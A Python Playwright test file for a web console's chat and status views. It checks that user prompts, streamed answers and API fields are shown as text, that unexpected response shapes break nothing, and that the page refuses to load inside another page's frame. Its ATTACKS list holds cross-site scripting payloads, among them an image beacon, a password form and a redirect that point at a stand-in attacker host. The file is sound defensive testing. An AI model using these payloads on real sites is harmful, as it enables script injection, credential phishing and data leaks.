"""What is typed and what is answered is text, whatever it looks like; and nobody else is asked."""

from functools import partial
from typing import Any

import pytest
from playwright.async_api import Route, expect
from support.console.api import Api
from support.console.cognito import Person
from support.console.screen import Screen
from support.console.servers import Servers

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="session")]

OVERRIDE = "\u202e"
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    "<a href='javascript:alert(4)'>here</a>",
    "[here](javascript:alert(5)) ![x](http://attacker.example/?leak)",
    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "<style>*{display:none}</style><link rel=stylesheet href=http://attacker.example/>",
    "<form action=http://attacker.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
    "</textarea></article></main><script>alert(7)</script>",
    "&lt;script&gt;alert(8)&lt;/script&gt; &#60;b&#62;",
    "${alert(9)} {{constructor.constructor('alert(10)')()}}",
    "\x00\x01\x1b[2J\ufeff\u2028\u2029",
    f"{OVERRIDE}gnirts a{OVERRIDE}",
    "__proto__ constructor hasOwnProperty",
]
SHAPES = ["", "[]", "null", '"text"', "<html>", '{"id": 7, "status": ["done"], "text": {}}']
ELEMENTS = "script, img, svg, iframe, style, link, form, meta, a, object, embed, input"
COUNT = f"() => document.querySelectorAll('{ELEMENTS}').length"
INSIDE = f"element => element.querySelectorAll('{ELEMENTS}').length"
# Whether an override could turn what stands around it.
ISOLATED = """
(article, override) => {
  const walker = document.createTreeWalker(article, NodeFilter.SHOW_TEXT);
  const found = [];
  while (walker.nextNode())
    if (walker.currentNode.data.includes(override))
      found.push(getComputedStyle(walker.currentNode.parentElement).unicodeBidi);
  return found;
}
"""


async def test_nothing_is_ever_interpreted(screen: Screen, api: Api, ada: Person) -> None:
    await screen.signed_in(ada)
    before = await screen.page.evaluate(COUNT)
    for number, attack in enumerate(ATTACKS, 1):
        prompt = f"Number {number}: {attack}"
        await screen.ask(prompt)
        job = await api.job(number)
        assert job.prompt.startswith(f"Number {number}:")
        article = screen.article(f"Number {number}:")
        job.say(f"At first {attack}")
        await expect(article).to_contain_text("At first")
        # As another worker would begin it again.
        job.end(f"{attack} ({number})", error=attack, reason=attack, notice=attack)
        await expect(article).to_contain_text(f"({number})")
        assert await article.evaluate(INSIDE) == 0
        if "<" in attack:
            assert attack in (await article.text_content() or "")
    assert await screen.page.evaluate(COUNT) == before
    isolated = await screen.articles.filter(has_text="gnirts").first.evaluate(ISOLATED, OVERRIDE)
    assert isolated
    assert set(isolated) <= {"isolate", "isolate-override", "plaintext"}


async def test_what_the_api_says_is_text_too(screen: Screen, api: Api, ada: Person) -> None:
    attack = "<img src=x onerror=alert(1)>"
    api.status |= {"latch": {"reason": attack, "since": attack, "until": attack, "by": attack}}
    api.status |= {"money": {"degree": 1, "why": attack, "projected_eur": attack}}
    api.status |= {"spend_eur": attack, "gpu_hours_left": None, "queue_depth": attack}
    api.status |= {"start_failure": {"code": attack, "message": attack}, "last_boot": {attack: 1}}
    api.status |= {"lane": {"phase": attack, "failure": {"message": attack, "at": 1}}}
    await screen.signed_in(ada)
    before = await screen.page.evaluate(COUNT)
    api.refuse(503, attack, field=attack, value=attack)
    await screen.ask("Hello?")
    await expect(screen.alert).to_be_visible()
    api.status["node"] = attack
    job_status = {"status": attack, "engine": attack, "eur": attack, "tokens_per_second": attack}
    await screen.ask("And now?")
    job = await api.job()
    job.say("Hm", **job_status)
    await screen.forward(3)
    job.end("Fine.", engine=attack, finish_reason=attack)
    await expect(screen.article("And now?")).to_contain_text("Fine.")
    assert await screen.page.evaluate(COUNT) == before


async def test_an_answer_of_another_shape_breaks_nothing(
    screen: Screen, api: Api, ada: Person, servers: Servers
) -> None:
    await screen.signed_in(ada)
    headers = {"Access-Control-Allow-Origin": servers.url.rstrip("/")}
    for number, answer in enumerate(SHAPES, 1):
        asked: list[Route] = []
        odd = partial(_fulfil, asked, {"body": answer, "headers": headers})
        await screen.page.route(f"{servers.api_url}/infer/*", odd)
        await screen.ask(f"Odd {number}?")
        job = await api.job(number)
        await api.until(lambda asked=asked: asked)
        await screen.page.unroute(f"{servers.api_url}/infer/*")
        job.end(f"Even {number}.")
        await screen.forward(3)
        await expect(screen.article(f"Odd {number}?")).to_contain_text(f"Even {number}.")


async def _fulfil(asked: list[Route], told: dict[str, Any], route: Route) -> None:
    asked.append(route)
    await route.fulfill(**told)


async def test_no_other_page_can_show_it(screen: Screen, servers: Servers) -> None:
    await screen.page.goto("about:blank")
    await screen.page.set_content(f"<iframe src='{servers.url}'></iframe>")
    frame = screen.page.frames[1]
    assert await frame.locator("form").count() == 0
    # It was refused as it should be, and that is all that was.
    screen.watched.wrong.clear()
    screen.watched.origins.discard("null")
    await screen.page.goto(servers.url)
    screen.watched.origins -= {"about://"}
